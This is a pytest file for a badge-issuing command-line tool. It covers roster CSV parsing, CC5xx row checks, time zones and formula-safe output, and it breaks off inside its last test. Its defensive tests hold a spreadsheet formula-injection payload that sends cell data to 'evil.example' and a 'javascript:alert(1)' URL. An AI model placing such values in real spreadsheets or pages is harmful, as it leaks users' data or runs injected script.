"""Roster reading and row checks: what spreadsheets export, and every CC5xx code at its roster line."""

from __future__ import annotations

import csv
import hashlib
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from cc_cli.catalog.roster import Roster, RosterError, read_roster, roster_sha256
from cc_cli.core.csvfile import safe_cell, write_csv
from cc_cli.core.problems import Problem, UsageError
from cc_cli.issue.row_checks import CheckResult, check_rows
from cc_cli.rules.roster_rules import email_problem
from cc_cli.validate.load import load_catalog
from tests.conftest import ROOT, SAMPLE_CATALOG

NOW = datetime(2026, 11, 28, tzinfo=UTC)
CATALOG = load_catalog(SAMPLE_CATALOG).catalog
FIXTURES = Path(__file__).parent / "data" / "rosters"
HEADER = "email,name,credential"


def roster_file(tmp_path: Path, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / "roster.csv"
    path.write_bytes(text.encode(encoding))
    return path


def check(
    path: Path, holdings: dict[str, set[str]] | None = None, tz: str = "UTC", encoding: str | None = None
) -> tuple[Roster, CheckResult]:
    roster = read_roster(path, encoding)
    held = holdings or {}
    return roster, check_rows(roster, CATALOG, lambda email: held.get(email, set()), NOW, ZoneInfo(tz))


def found(result: CheckResult) -> list[Problem]:
    return [problem for _, problems in result.rejected for problem in problems]


def codes(result: CheckResult) -> list[tuple[int, int, str]]:
    return [(p.line, p.column, p.code) for p in found(result)]


def cc501(path: Path, encoding: str | None = None) -> Problem:
    with pytest.raises(RosterError) as caught:
        read_roster(path, encoding)
    assert caught.value.problem.code == "CC501"
    return caught.value.problem


def test_sample_roster_is_clean() -> None:
    roster, result = check(ROOT / "examples/roster.csv")
    assert roster.problems == [] and found(result) == []
    assert len(result.valid) == len(roster.rows) > 24
    assert all(p.issued_at.tzinfo is not None for p in result.valid)


# --- dialects and encodings ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "encoding", "dialect"),
    [
        ("email,name,credential\r\nana@example.com,Ana,cloud-essentials\r\n", "utf-8", "comma"),
        ("\ufeffemail,name,credential\nana@example.com,Ana,cloud-essentials\n", "utf-8", "comma"),
        ("email;name;credential\nana@example.com;Ana;cloud-essentials\n", "utf-8", "semicolon"),
        ("email\tname\tcredential\nana@example.com\tAna\tcloud-essentials\n", "utf-8", "tab"),
        ('"email","name","credential"\n"ana@example.com","Ana","cloud-essentials"\n', "utf-8", "comma"),
        ("email, name, credential\nana@example.com, Ana, cloud-essentials\n", "utf-8", "comma"),
        ("email,name,credential\rana@example.com,Ana,cloud-essentials\r", "utf-8", "comma"),
        ("email\tname\tcredential\r\nana@example.com\tAna\tcloud-essentials\r\n", "utf-16", "tab"),
        ("email,name,credential\nana@example.com,Ana,cloud-essentials", "utf-8", "comma"),
    ],
    ids=["crlf", "bom", "semicolon", "tab", "quoted", "spaces", "cr", "excel-utf16", "no-final-newline"],
)
def test_dialects(tmp_path: Path, text: str, encoding: str, dialect: str) -> None:
    roster, result = check(roster_file(tmp_path, text, encoding))
    assert roster.dialect_name == dialect and roster.header == ["email", "name", "credential"]
    assert [(p.line, p.email, p.name, p.credential_id) for p in result.valid] == [
        (2, "ana@example.com", "Ana", "cloud-essentials")
    ]


@pytest.mark.parametrize(
    ("text", "dialect"),
    [
        ("email,name,credential,evidence_narrative\na@example.com,A,cloud-essentials,x; y; z\n", "comma"),
        ("email;name;credential;evidence_narrative\na@example.com;A;cloud-essentials;x, y, z, w\n", "semicolon"),
        ('email;name;credential\na@example.com;"Doe, Jane";cloud-essentials\n', "semicolon"),
        ("email,name,credential\na@example.com,A\tB,cloud-essentials\n", "comma"),
    ],
)
def test_the_header_confirms_the_sniffed_delimiter(tmp_path: Path, text: str, dialect: str) -> None:
    assert read_roster(roster_file(tmp_path, text)).dialect_name == dialect


def test_european_excel_export() -> None:
    """BOM, CRLF, semicolons, First/Last Name, a multi-line cell: the bad row after it is still line 6."""
    roster, result = check(FIXTURES / "excel_semicolon_bom_crlf.csv")
    assert roster.dialect_name == "semicolon" and roster.header[0] == "E-mail"
    assert [(p.line, p.email, p.name) for p in result.valid] == [
        (2, "anna.mueller@example.de", "Anna Müller"),
        (3, "jean.dupont@example.fr", "Jean Dupont"),
        (7, "zoe@example.com", "Zoë"),  # an empty Last Name is fine
    ]
    assert result.valid[1].evidence_narrative == "Atelier ; deux jours\nsecond line\nthird line"
    assert codes(result) == [(6, 1, "CC502")]
    row, _ = result.rejected[0]
    assert row.original == ["bad-address", "Bad", "Row", "cloud-essentials", "2026-01-07", "", "IT"]


def test_quoting_keeps_physical_line_numbers() -> None:
    _, result = check(FIXTURES / "quoting.csv")
    ana, cy = result.valid
    assert (ana.line, ana.name, cy.line, cy.name) == (2, "Silva, Ana", 7, 'Cy "CJ" Jones')
    assert ana.evidence_narrative == 'Led the "Cloud Day" workshop,\nthen mentored two teams.\n\nThird paragraph.'
    assert codes(result) == [(6, 1, "CC502"), (8, 3, "CC503")]


def test_tab_separated_aliases() -> None:
    _, result = check(FIXTURES / "tabs.csv")
    assert [(p.email, p.name, p.credential_id, p.external_id) for p in result.valid] == [
        ("ana@example.com", "Ana Silva", "cloud-essentials", "T-1"),
        ("bo@example.com", "Bo Chen", "cybersecurity-fundamentals", "T-2"),
    ]


def test_cp1252_needs_an_encoding() -> None:
    problem = cc501(FIXTURES / "windows_1252.csv")
    assert (problem.line, problem.column) == (3, 20)
    assert "0xe9" in problem.message and "byte offset 86" in problem.message and "line 3" in problem.message
    assert "--encoding cp1252" in problem.message and "'é'" in problem.message
    _, result = check(FIXTURES / "windows_1252.csv", encoding="cp1252")
    assert [p.name for p in result.valid] == ["Ana Silva", "José Núñez", "Seán O’Brien"]


def test_unknown_encoding_is_a_usage_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="unknown encoding"):
        read_roster(roster_file(tmp_path, f"{HEADER}\n"), "klingon")


def test_roster_sha256(tmp_path: Path) -> None:
    path = roster_file(tmp_path, f"{HEADER}\nana@example.com,Ana,cloud-essentials\n")
    assert roster_sha256(path) == read_roster(path).sha256 == hashlib.sha256(path.read_bytes()).hexdigest()


# --- headers -----------------------------------------------------------------------------------------

ALIASES = [
    ("email", t)
    for t in ("email", "Recipient Email", "E-mail", "Email Address", "Recipient", "  EMAIL ", "recipient_email")
] + [
    ("name", t) for t in ("Full Name", "Recipient Name", "NAME")
] + [
    ("credential", t) for t in ("Credential ID", "Badge", "Badge ID", "Achievement", "credential-id")
]  # fmt: skip
OPTIONAL_ALIASES = [
    ("issued_on", t, "2026-03-01") for t in ("Issue Date", "Issued", "Date Issued", "Awarded On", "issued_on")
] + [
    ("expires_on", t, "2027-03-01") for t in ("Expiration Date", "Expiry Date", "Expires")
] + [
    ("evidence_url", t, "https://example.com/e") for t in ("Evidence", "Evidence URL")
] + [
    ("evidence_narrative", t, "Did it") for t in ("Evidence Narrative", "Evidence Description")
] + [
    ("external_id", t, "LMS-1") for t in ("ID", "Row ID", "Reference")
]  # fmt: skip


@pytest.mark.parametrize(("column", "title"), ALIASES)
def test_required_column_aliases(tmp_path: Path, column: str, title: str) -> None:
    titles = {"email": "email", "name": "name", "credential": "credential", column: title}
    header = ",".join(titles.values())
    _, result = check(roster_file(tmp_path, f"{header}\nana@example.com,Ana Silva,cloud-essentials\n"))
    [planned] = result.valid
    assert (planned.email, planned.name, planned.credential_id) == ("ana@example.com", "Ana Silva", "cloud-essentials")


@pytest.mark.parametrize(("column", "title", "value"), OPTIONAL_ALIASES)
def test_optional_column_aliases(tmp_path: Path, column: str, title: str, value: str) -> None:
    roster, result = check(roster_file(tmp_path, f"{HEADER},{title}\nana@example.com,Ana,cloud-essentials,{value}\n"))
    assert roster.rows[0].cells[column] == value and roster.rows[0].columns[column] == 4
    assert found(result) == []


@pytest.mark.parametrize(
    ("middle", "name"), [("", "Ada Lovelace"), ("King", "Ada King Lovelace")], ids=["middle-empty", "middle-filled"]
)
def test_credly_name_columns(tmp_path: Path, middle: str, name: str) -> None:
    """Credly's bulk-issue layout names the earner in three columns: cc reads them as one name (issue 16)."""
    header = "Badge Template ID,Recipient Email,Issued To First Name,Issued To Middle Name,Issued To Last Name\r\n"
    row = f"cloud-essentials,ada@example.com,Ada,{middle},Lovelace\r\n"
    roster, result = check(roster_file(tmp_path, "\ufeff" + header + row))
    assert roster.rows[0].cells["name"] == name
    assert found(result) == []


@pytest.mark.parametrize(
    ("header", "row", "name"),
    [
        ("First Name,Last Name,Email,Credential", "Zoë,Åström,zoe@example.com,cloud-essentials", "Zoë Åström"),
        ("first_name,last-name,email,credential", ",Åström,zoe@example.com,cloud-essentials", "Åström"),
        ("Email,First Name,Credential", "zoe@example.com,Zoë,cloud-essentials", "Zoë"),
        (
            "Full Name,First Name,Last Name,Email,Credential",
            "Dr Zoë Åström,Zoë,Åström,z@example.com,cloud-essentials",
            "Dr Zoë Åström",
        ),
    ],
)
def test_first_and_last_name(tmp_path: Path, header: str, row: str, name: str) -> None:
    _, result = check(roster_file(tmp_path, f"{header}\n{row}\n"))
    assert result.valid[0].name == name


def test_canonical_column_beats_alias_and_extra_columns_are_kept(tmp_path: Path) -> None:
    text = "Recipient,Email,name,credential,Cohort\nAna Silva,ana@example.com,Ana,cloud-essentials,2026-Q1\n"
    roster, result = check(roster_file(tmp_path, text))
    assert result.valid[0].email == "ana@example.com"
    assert roster.rows[0].original == ["Ana Silva", "ana@example.com", "Ana", "cloud-essentials", "2026-Q1"]


@pytest.mark.parametrize(
    ("text", "line", "column", "words"),
    [
        ("mail address,name,badge\nx,y,z\n", 1, 1, ["missing required column(s) email", "'mail address'"]),
        ("Emial,Nmae,Credentail\nx,y,z\n", 1, 1, ["'Emial' looks like email", "'Credentail' looks like credential"]),
        ("ana@example.com,Ana,cloud-essentials\n", 1, 1, ["looks like data", "add a header line"]),
        ("", 1, 1, ["empty"]),
        (f'{HEADER}\nana@example.com,"Ana,cloud-essentials\nbo@example.com,Bo,x\n', 2, 1, ["never closed"]),
        (f'{HEADER}\nana@example.com,Ana,x\nbo@example.com,"Bo" Chen,x\n', 3, 1, ["after a closing quote"]),
    ],
    ids=["missing", "typos", "no-header", "empty", "open-quote", "text-after-quote"],
)
def test_unreadable_rosters_are_cc501(tmp_path: Path, text: str, line: int, column: int, words: list[str]) -> None:
    problem = cc501(roster_file(tmp_path, text))
    assert (problem.line, problem.column) == (line, column)
    assert all(word in problem.message for word in words), problem.message


def test_excel_workbook_is_cc501(tmp_path: Path) -> None:
    path = tmp_path / "roster.xlsx"
    path.write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)))
    assert "Excel workbook" in cc501(path).message


# --- row checks --------------------------------------------------------------------------------------


def test_every_row_code(tmp_path: Path) -> None:
    text = (
        "email,name,credential,issued_on,expires_on,evidence_url\n"
        "ana@example,Ana,cloud-essentials,2026-01-01,,\n"  # 2 CC502
        "bo@example.com,Bo,cloud-esentials,2026-01-01,,\n"  # 3 CC503
        "cy@example.com,Cy,watsonx-ai-prompt-engineering,2026-01-01,,\n"  # 4 CC504 (draft)
        "cz@example.com,Cz,ibm-certified-advocate-cloud-v1,2026-01-01,,\n"  # 5 CC504 (retired)
        "di@example.com,Di,cloud-essentials,2027-01-01,,\n"  # 6 CC505 future
        "ed@example.com,Ed,cloud-essentials,2026-05-01,2026-04-01,\n"  # 7 CC505 expiry before issue
        "fa@example.com,Fa,cloud-essentials,01/05/2026,,\n"  # 8 CC505 bad date
        "ge@example.com,Ge,cloud-essentials,2026-01-01,,\n"  # 9 ok
        "GE@Example.com,Ge,cloud-essentials,2026-02-01,,\n"  # 10 CC506 (emails compared case-insensitively)
        "ha@example.com,Ha,containers-kubernetes-essentials,2026-01-01,,\n"  # 11 CC507
        "ia@example.com,Ia,enterprise-design-thinking-coach,2026-01-01,,\n"  # 12 CC507 + CC508
        "ja@example.com,,cloud-essentials,2026-01-01,,\n"  # 13 CC509 empty name
        f"ka@example.com,{'K' * 201},cloud-essentials,2026-01-01,,\n"  # 14 CC509 oversized
        "la@example.com,La\x07,cloud-essentials,2026-01-01,,\n"  # 15 CC509 control character
        "ma@example.com,Ma,cloud-essentials,2026-01-01,,javascript:alert(1)\n"  # 16 CC509 not a URL
    )
    _, result = check(roster_file(tmp_path, text))
    assert codes(result) == [
        (2, 1, "CC502"),
        (3, 3, "CC503"),
        (4, 3, "CC504"),
        (5, 3, "CC504"),
        (6, 4, "CC505"),
        (7, 5, "CC505"),
        (8, 4, "CC505"),
        (10, 1, "CC506"),
        (11, 3, "CC507"),
        (12, 3, "CC507"),
        (12, 6, "CC508"),
        (13, 2, "CC509"),
        (14, 2, "CC509"),
        (15, 2, "CC509"),
        (16, 6, "CC509"),
    ]
    messages = {(p.line, p.code): p.message for p in found(result)}
    assert 'did you mean "cloud-essentials"' in messages[3, "CC503"]
    assert "draft" in messages[4, "CC504"] and "retired" in messages[5, "CC504"]
    assert "in the future" in messages[6, "CC505"] and "not after the issue date" in messages[7, "CC505"]
    assert "YYYY-MM-DD" in messages[8, "CC505"]
    assert "repeats line 9" in messages[10, "CC506"]
    assert "does not hold cloud-essentials" in messages[11, "CC507"]
    assert "evidence_url or evidence_narrative" in messages[12, "CC508"]
    assert "201 characters, over the 200" in messages[14, "CC509"] and "U+0007" in messages[15, "CC509"]
    assert all(p.path == str(tmp_path / "roster.csv") and p.severity == "error" for p in found(result))
    assert [p.line for p in result.valid] == [9]


@pytest.mark.parametrize(
    ("email", "fix"),
    [
        ("ana@example.com", None),
        ("Ana.Silva+cohort1@mail.example.co.uk", None),
        ("o'brien@example.ie", None),
        ("josé@correo.example", None),
        ("用户@例子.广告", None),
        ("Ana Silva <ana@example.com>", "without the name"),
        ("mailto:ana@example.com", "mailto"),
        ("ana@example.com; bo@example.com", "one address per row"),
        ("ana.example.com", "exactly one @"),
        ("ana@example", "needs a dot"),
        ("ana@example.com.", "dot at the end"),
        ("ana..silva@example.com", "before the @"),
        ("ana silva@example.com", "before the @"),
        ("ana@exa_mple.com", "domain"),
        ("ana@-example.com", "domain"),
        ("ana@10.0.0.1", "domain"),
        ("ana\u200b@example.com", "U+200B"),
    ],
)
def test_email_syntax(email: str, fix: str | None) -> None:
    problem = email_problem(email)
    assert problem is None if fix is None else fix in (problem or "")


def test_emails_are_kept_as_written_and_cells_stripped(tmp_path: Path) -> None:
    text = f"{HEADER}\n\u00a0Ana.Silva@Example.COM\u200b ,\u3000Ana Silva\t, cloud-essentials \n"
    _, result = check(roster_file(tmp_path, text))
    assert [(p.email, p.name) for p in result.valid] == [("Ana.Silva@Example.COM", "Ana Silva")]


def test_credential_by_title_or_any_case(tmp_path: Path) -> None:
    text = f"{HEADER}\nana@example.com,Ana,IBM Cloud Essentials\nbo@example.com,Bo,Cloud-Essentials\n"
    _, result = check(roster_file(tmp_path, text))
    assert [p.credential_id for p in result.valid] == ["cloud-essentials", "cloud-essentials"]


def test_duplicates_by_title_and_id_are_the_same_award(tmp_path: Path) -> None:
    text = f"{HEADER}\nana@example.com,Ana,cloud-essentials\nANA@example.com,Ana,IBM Cloud Essentials\n"
    _, result = check(roster_file(tmp_path, text))
    assert codes(result) == [(3, 1, "CC506")]


def test_prerequisites_from_ledger_or_earlier_valid_rows(tmp_path: Path) -> None:
    text = (
        f"{HEADER},issued_on\n"
        "ana@example.com,Ana,cloud-essentials,\n"
        "ana@example.com,Ana,containers-kubernetes-essentials,\n"  # 3: prerequisite on line 2
        "bo@example.com,Bo,containers-kubernetes-essentials,\n"  # 4: prerequisite in the ledger
        "cy@example.com,Cy,cloud-essentials,2099-01-01\n"  # 5: rejected, so it earns nothing
        "cy@example.com,Cy,containers-kubernetes-essentials,\n"  # 6: CC507
        "di@example.com,Di,containers-kubernetes-essentials,\n"  # 7: CC507, prerequisite on a later line
        "di@example.com,Di,cloud-essentials,\n"  # 8
    )
    _, result = check(roster_file(tmp_path, text), holdings={"bo@example.com": {"cloud-essentials"}})
    assert [p.line for p in result.valid] == [2, 3, 4, 8]
    assert codes(result) == [(5, 4, "CC505"), (6, 3, "CC507"), (7, 3, "CC507")]
    assert "cloud-essentials is on line 8: move it above this line" in found(result)[2].message


def test_certificate_components_are_prerequisites(tmp_path: Path) -> None:
    components = ["cybersecurity-fundamentals", "qradar-siem-foundations", "incident-response-forensics"]
    rows = "".join(f"ana@example.com,Ana,{cid}\n" for cid in components)
    text = f"{HEADER}\n{rows}ana@example.com,Ana,cybersecurity-analyst-certificate\n"
    text += "bo@example.com,Bo,cybersecurity-analyst-certificate\n"
    _, result = check(roster_file(tmp_path, text), holdings={"bo@example.com": {*components[:2]}})
    assert [p.line for p in result.valid] == [2, 3, 4, 5]
    assert codes(result) == [(6, 3, "CC507")]
    assert "does not hold incident-response-forensics" in found(result)[0].message


@pytest.mark.parametrize(
    ("evidence", "ok"),
    [(",https://example.com/talk,", True), (",,Keynote at Think 2026", True), (",,", False)],
)
def test_thought_leader_needs_evidence(tmp_path: Path, evidence: str, ok: bool) -> None:
    text = f"{HEADER},evidence_url,evidence_narrative\nana@example.com,Ana,enterprise-design-thinking-coach{evidence}\n"
    held = {"ana@example.com": {"enterprise-design-thinking-co-creator"}}
    _, result = check(roster_file(tmp_path, text), holdings=held)
    assert codes(result) == ([] if ok else [(2, 4, "CC508")])


@pytest.mark.parametrize(
    ("cells", "column", "words"),
    [
        (f"{'a' * 309}@example.com,Ana,cloud-essentials,,", 1, "321 characters, over the 320"),
        ("ana@example.com,Ana,cloud-essentials,https://example.com/" + "x" * 2030 + ",", 4, "over the 2048"),
        ("ana@example.com,Ana,cloud-essentials,," + "n" * 2001, 5, "over the 2000"),
        ('ana@example.com,"Ana\nSilva",cloud-essentials,,', 2, "line break"),
        ("ana@example.com,Ana\tSilva,cloud-essentials,,", 2, "U+0009"),
        ("ana@example.com,Ana\u202eavliS,cloud-essentials,,", 2, "U+202E"),
        ('ana@example.com,Ana,cloud-essentials,,"tab\there"', 5, "U+0009"),
        (",Ana,cloud-essentials,,", 1, "empty email"),
        ("ana@example.com,Ana,,,", 3, "empty credential"),
    ],
    ids=["email", "url", "narrative", "newline", "tab", "bidi", "narrative-tab", "no-email", "no-credential"],
)
def test_cell_problems_are_cc509(tmp_path: Path, cells: str, column: int, words: str) -> None:
    text = f"{HEADER},evidence_url,evidence_narrative\n{cells}\n"
    _, result = check(roster_file(tmp_path, text))
    cc509 = [p for p in found(result) if p.code == "CC509"]
    assert [(p.line, p.column) for p in cc509] == [(2, column)] and words in cc509[0].message, cc509


def test_unquoted_delimiter_in_a_cell_is_named(tmp_path: Path) -> None:
    _, result = check(roster_file(tmp_path, f"{HEADER}\nana@example.com,Silva, Ana,cloud-essentials\n"))
    cc509 = [p for p in found(result) if p.code == "CC509"]
    assert [(p.line, p.column) for p in cc509] == [(2, 4)]
    assert "this line has 4 cells but the header has 3 columns" in cc509[0].message
    assert 'must be in double quotes, e.g. "Doe, Jane"' in cc509[0].message


def test_narratives_may_have_line_breaks(tmp_path: Path) -> None:
    text = f'{HEADER},evidence_narrative\r\nana@example.com,Ana,cloud-essentials,"one\r\ntwo"\r\nx,Bo,y,\r\n'
    _, result = check(roster_file(tmp_path, text))
    assert result.valid[0].evidence_narrative == "one\ntwo" and codes(result)[0][0] == 4


# --- dates and time zones ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "tz", "expected"),
    [
        ("2026-03-01", "UTC", datetime(2026, 3, 1, tzinfo=UTC)),
        ("2026-03-01", "Europe/Paris", datetime(2026, 2, 28, 23, 0, tzinfo=UTC)),
        ("2026-07-01", "America/New_York", datetime(2026, 7, 1, 4, 0, tzinfo=UTC)),  # EDT
        ("20260301", "UTC", datetime(2026, 3, 1, tzinfo=UTC)),
        ("2026-03-01T10:00:00+02:00", "UTC", datetime(2026, 3, 1, 8, 0, tzinfo=UTC)),
        ("2026-03-01T10:00:00Z", "Asia/Tokyo", datetime(2026, 3, 1, 10, 0, tzinfo=UTC)),
        ("2026-03-01T10:00:00", "America/New_York", datetime(2026, 3, 1, 15, 0, tzinfo=UTC)),
        ("2026-03-01 10:00", "UTC", datetime(2026, 3, 1, 10, 0, tzinfo=UTC)),
        ("", "UTC", NOW),
    ],
)
def test_issue_dates_are_never_naive(tmp_path: Path, cell: str, tz: str, expected: datetime) -> None:
    text = f"{HEADER},issued_on,expires_on\nana@example.com,Ana,cloud-essentials,{cell},2030-01-01\n"
    _, result = check(roster_file(tmp_path, text), tz=tz)
    [planned] = result.valid
    assert planned.issued_at.utcoffset() is not None and planned.issued_at == expected
    assert planned.expires_at == datetime(2030, 1, 1, tzinfo=ZoneInfo(tz))


def test_an_explicit_offset_is_kept(tmp_path: Path) -> None:
    text = f"{HEADER},issued_on\nana@example.com,Ana,cloud-essentials,2026-03-01T10:00:00+05:30\n"
    _, result = check(roster_file(tmp_path, text), tz="Europe/Paris")
    assert result.valid[0].issued_at.utcoffset() == timedelta(hours=5, minutes=30)


@pytest.mark.parametrize(
    ("issued", "expires", "tz", "column"),
    [
        ("2026-11-28", "", "America/Los_Angeles", 4),  # still 27 November there
        ("2026-11-28T00:00:01Z", "", "UTC", 4),
        ("0001-01-01", "", "Asia/Tokyo", 4),
        ("2026-01-01", "9999-12-31", "America/New_York", 5),  # "never" placeholder
        ("2026-01-01", "2026-01-01", "UTC", 5),
        ("2026-02-30", "", "UTC", 4),
    ],
)
def test_bad_dates_are_cc505(tmp_path: Path, issued: str, expires: str, tz: str, column: int) -> None:
    text = f"{HEADER},issued_on,expires_on\nana@example.com,Ana,cloud-essentials,{issued},{expires}\n"
    _, result = check(roster_file(tmp_path, text), tz=tz)
    assert codes(result) == [(2, column, "CC505")]


def test_today_is_not_the_future_east_of_utc(tmp_path: Path) -> None:
    text = f"{HEADER},issued_on\nana@example.com,Ana,cloud-essentials,2026-11-28\n"
    _, result = check(roster_file(tmp_path, text), tz="Pacific/Auckland")
    assert result.valid[0].issued_at == datetime(2026, 11, 27, 11, 0, tzinfo=UTC)


def test_naive_now_is_refused(tmp_path: Path) -> None:
    roster = read_roster(roster_file(tmp_path, f"{HEADER}\nana@example.com,Ana,cloud-essentials\n"))
    with pytest.raises(ValueError, match="aware"):
        check_rows(roster, CATALOG, lambda _: set(), datetime(2026, 11, 28), ZoneInfo("UTC"))
    moment = datetime(2026, 11, 28, tzinfo=timezone(timedelta(hours=-3)))
    assert check_rows(roster, CATALOG, lambda _: set(), moment, UTC).valid[0].issued_at == moment


# --- writing CSVs ------------------------------------------------------------------------------------


def test_rejects_csv_is_formula_safe_and_aligned(tmp_path: Path) -> None:
    """As `cc issue` writes it: the original columns plus `error`; nothing in it may become a formula."""
    roster, result = check(FIXTURES / "formula_names.csv")
    assert result.valid == [] and [row.line for row, _ in result.rejected] == [2, 3, 4, 5]
    target = tmp_path / "roster.rejects.csv"
    rows = [[*row.original, "; ".join(p.code for p in problems)] for row, problems in result.rejected]
    write_csv(target, [*roster.header, "error"], rows)
    assert target.read_bytes().startswith(b"\xef\xbb\xbf") and b"\r\n" in target.read_bytes()
    back = list(csv.DictReader(target.open(encoding="utf-8-sig", newline="")))
    assert [row["error"] for row in back] == ["CC502"] * 4
    assert back[0]["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    assert [row["name"][:2] for row in back] == ["'=", "'+", "'@", "'-"]
    assert [row["Department"] for row in back] == ["'=1+2", "'-3", "'\t=tab", "ok"]
    assert back[3]["email"] == "'=x4@example"
    assert [p.name for p in tmp_path.iterdir()] == ["roster.rejects.csv"]  # atomic: no temporary left


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("plain", "plain"),
        ("Zoë", "Zoë"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(cell: str, safe: str) -> None:
    assert safe_cell(cell) == safe


def test_short_rows_line_up_with_the_header(tmp_path: Path) -> None:
    text = f"{HEADER},issued_on,external_id\nana@example.com,Ana,nope\nbo@example.com,Bo,nope,,,,\n"
    roster = read_roster(roster_file(tmp_path, text))
    padded = [["ana@example.com", "Ana", "nope", "", ""], ["bo@example.com", "Bo", "nope", "", ""]]
    assert [row.original for row in roster.rows] == padded


def test_blank_lines_are_skipped_but_counted(tmp_path: Path) -> None:
    text = f"\n{HEADER}\r\n\r\nana@example.com,Ana,cloud-essentials\r\n\r\nx,Bo,cloud-essentials\r\n,,\r\n"
    roster, result = check(roster_file(tmp_path, text))
    assert [row.line for row in roster.rows] == [4, 6]
    assert codes(result) == [(6, 1, "CC502")]


def test_two_columns_with_the_same_title_are_refused(tmp_path: Path) -> None:
    roster = tmp_path / "twins.csv"
    roster.write_text("email,name,credential, Email \nana@example.com,Ana,cloud-essentials,bob@example.com\n")
    problem = cc501(roster)
    assert (problem.line, problem.column) == (1, 4)
    assert problem.message == "columns 1 and 4 are both 'Email': remove or rename one of them"
    roster.write_text(
        "email,First Name,Last Name,first_name,credential\nana@example.com,Ana,Silva,Bo,cloud-essentials\n"
    )
    problem = cc501(roster)
    assert (problem.line, problem.column, problem.message) == (
        1,
        4,
        "columns 2 and 4 are both 'first_name': remove or rename one of them",
    )


def test_a_header_without_rows_is_refused(tmp_path: Path) -> None:
    roster = tmp_path / "empty.csv"
    roster.write_text("email,name,credential\r\n\r\n")
    problem = cc501(roster)
    assert (problem.line, problem.column) == (2, 1)
    assert problem.message == "the roster has a header but no rows: export the rows too, one award per row"


# --- Credly's bulk-issue layout (issue 16) -------------------------------------------------------

CREDLY_HEADER = (
    "Badge Template ID,Recipient Email,Issued To First Name,Issued To Middle Name,Issued To Last Name,Issued at,"
    "Expires at,Issuer Earner ID,Group Tag,Country,Evidence URL,Text Evidence Title,Text Evidence Description\r\n"
)


def credly_check(tmp_path: Path, rows: list[str], order: str | None = None) -> tuple[Roster, CheckResult]:
    path = roster_file(tmp_path, "\ufeff" + CREDLY_HEADER + "".join(row + "\r\n" for row in rows))
    roster = read_roster(path)
    return roster, check_rows(roster, CATALOG, lambda email: set(), NOW, ZoneInfo("UTC"), order)


@pytest.mark.parametrize(
    ("issued", "expires", "order", "want"),
    [
        ("03/14/25", "03/14/27", None, ((2025, 3, 14), (2027, 3, 14))),  # Credly's mm/dd/yy
        ("2025-03-14", "2027-03-14", None, ((2025, 3, 14), (2027, 3, 14))),  # third-party generators
        ("14/03/2025", "", None, ((2025, 3, 14), None)),  # reads only one way
        ("03/03/25", "", None, ((2025, 3, 3), None)),  # the same either way
        ("03/04/25", "03/04/27", "mdy", ((2025, 3, 4), (2027, 3, 4))),
        ("03/04/25", "03/04/27", "dmy", ((2025, 4, 3), (2027, 4, 3))),
    ],
    ids=["mm-dd-yy", "iso", "day-first-unambiguous", "same-both-ways", "mdy", "dmy"],
)
def test_credly_dates(
    tmp_path: Path, issued: str, expires: str, order: str | None, want: tuple[tuple[int, ...], tuple[int, ...] | None]
) -> None:
    _, result = credly_check(
        tmp_path, [f"cloud-essentials,ada@example.com,Ada,,Lovelace,{issued},{expires},,,,,,"], order
    )
    assert found(result) == []
    [planned] = result.valid
    assert planned.issued_at == datetime(*want[0], tzinfo=ZoneInfo("UTC"))
    assert planned.expires_at == (datetime(*want[1], tzinfo=ZoneInfo("UTC")) if want[1] else None)


def test_credly_ambiguous_date_is_refused_with_what_to_do(tmp_path: Path) -> None:
    rows = [
        "cloud-essentials,ada@example.com,Ada,,Lovelace,03/14/25,,,,,,,",
        "cloud-essentials,bo@example.com,Bo,,Chen,03/04/25,,,,,,,",
        "cloud-essentials,cy@example.com,Cy,,Diaz,03/14/25,03/05/27,,,,,,",
    ]
    _, result = credly_check(tmp_path, rows)
    assert codes(result) == [(3, 6, "CC505"), (4, 7, "CC505")]
    first, second = found(result)
    assert first.path.endswith("roster.csv")
    assert "Issued at '03/04/25' reads two ways, March 4 or April 3, 2025" in first.message
    assert "--date-format mdy" in first.message and "--date-format dmy" in first.message
    assert "YYYY-MM-DD (2025-03-04 or 2025-04-03)" in first.message
    assert second.message.startswith("Expires at '03/05/27' reads two ways") and "no expiry" in second.message


def test_date_format_refuses_a_date_that_does_not_fit_it(tmp_path: Path) -> None:
    _, result = credly_check(tmp_path, ["cloud-essentials,ada@example.com,Ada,,Lovelace,14/03/25,,,,,,,"], "mdy")
    assert codes(result) == [(2, 6, "CC505")]
    assert "not a date in mm/dd/yy (--date-format mdy)" in found(result)[0].message


def test_credly_earner_id_evidence_and_ignored_columns(tmp_path: Path) -> None:
    rows = [
        "cloud-essentials,ada@example.com,Ada,King,Lovelace,03/14/25,,E-17,cohort-3,UK,https://example.com/ada,"
        'Notes,"Wrote the first program, for the Engine"'
    ]
    roster, result = credly_check(tmp_path, rows)
    assert found(result) == []
    [planned] = result.valid
    assert (planned.name, planned.external_id) == ("Ada King Lovelace", "E-17")
    assert planned.evidence_url == "https://example.com/ada"
    assert planned.evidence_narrative == "Notes\n\nWrote the first program, for the Engine"
    assert roster.ignored == ["Group Tag", "Country"]


def test_credly_template_id_that_matches_nothing_is_cc503_with_a_suggestion(tmp_path: Path) -> None:
    _, result = credly_check(tmp_path, ["cloud-esentials,ada@example.com,Ada,,Lovelace,03/14/25,,,,,,,"])
    assert codes(result) == [(2, 1, "CC503")]
    assert 'did you mean "cloud-essentials"' in found(result)[0].message


TEMPLATE = "5f0c1b4e-3d2a-4c8e-9b7f-1a2b3c4d5e6f"


def test_badge_template_id_resolves_through_credly_template_id(tmp_path: Path) -> None:
    import copy

    catalog = copy.deepcopy(CATALOG)
    catalog.credentials["cloud-essentials"].credly_template_id = TEMPLATE
